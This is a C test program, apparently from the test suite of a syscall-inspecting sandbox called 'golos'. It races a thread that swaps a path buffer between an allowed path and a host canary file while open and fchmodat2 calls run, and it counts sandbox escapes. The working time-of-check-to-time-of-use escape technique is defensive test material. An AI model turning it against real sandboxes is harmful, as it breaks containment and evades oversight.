/*
 * hostile_pathrace.c — changes a path while a call that golos looks at is made with it.
 *
 * usage: hostile_pathrace CANARY CANARY-INO N
 *
 * A second thread keeps swapping the bytes of one path buffer between a path golos lets
 * through to the host after a look at it and CANARY, a host file's absolute path (outside
 * the root, when the program runs in one), while the main thread makes N calls with the
 * buffer:
 *   - open(2) of "/proc/self/fd" (a directory of /proc golos watches) or CANARY: an open
 *     that reaches CANARY's inode is an escape;
 *   - fchmodat2(2) of "" with AT_EMPTY_PATH (its directory descriptor, the working
 *     directory, itself) or CANARY, to the mode the working directory has: the test
 *     checks CANARY's mode on the host.
 * It prints "open: escapes E" and "fchmodat2: done". Natively, on the host, the opens do
 * reach CANARY (the attack aims right); in a root, none may.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define SYS_fchmodat2_ 452 /* Linux 6.6; not in every libc's headers */

static char buf[4096];
static const char *canary, *other;
static volatile int stop;

static void *flipper(void *arg)
{
	(void)arg;
	size_t n = strlen(canary) + 1, m = strlen(other) + 1;
	while (!stop) {
		memcpy(buf, canary, n);
		memcpy(buf, other, m);
	}
	return NULL;
}

static void race(const char *with, void (*call)(void))
{
	other = with;
	memcpy(buf, other, strlen(other) + 1);
	stop = 0;
	pthread_t th;
	pthread_create(&th, NULL, flipper, NULL);
	call();
	stop = 1;
	pthread_join(th, NULL);
}

static ino_t ino;
static int n, escapes, dirfd_;
static mode_t dirmode;

static void opens(void)
{
	for (int i = 0; i < n; i++) {
		int fd = open(buf, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		struct stat st;
		if (fstat(fd, &st) == 0 && st.st_ino == ino)
			escapes++;
		close(fd);
	}
}

static void chmods(void)
{
	for (int i = 0; i < n; i++)
		syscall(SYS_fchmodat2_, dirfd_, buf, dirmode, AT_EMPTY_PATH);
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc != 4) {
		fprintf(stderr, "usage: %s CANARY CANARY-INO N\n", argv[0]);
		return 2;
	}
	canary = argv[1];
	ino = strtoull(argv[2], NULL, 10);
	n = atoi(argv[3]);
	race("/proc/self/fd", opens);
	printf("open: escapes %d\n", escapes);
	dirfd_ = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	struct stat st;
	fstat(dirfd_, &st);
	dirmode = st.st_mode & 07777;
	race("", chmods);
	printf("fchmodat2: done\n");
	return 0;
}
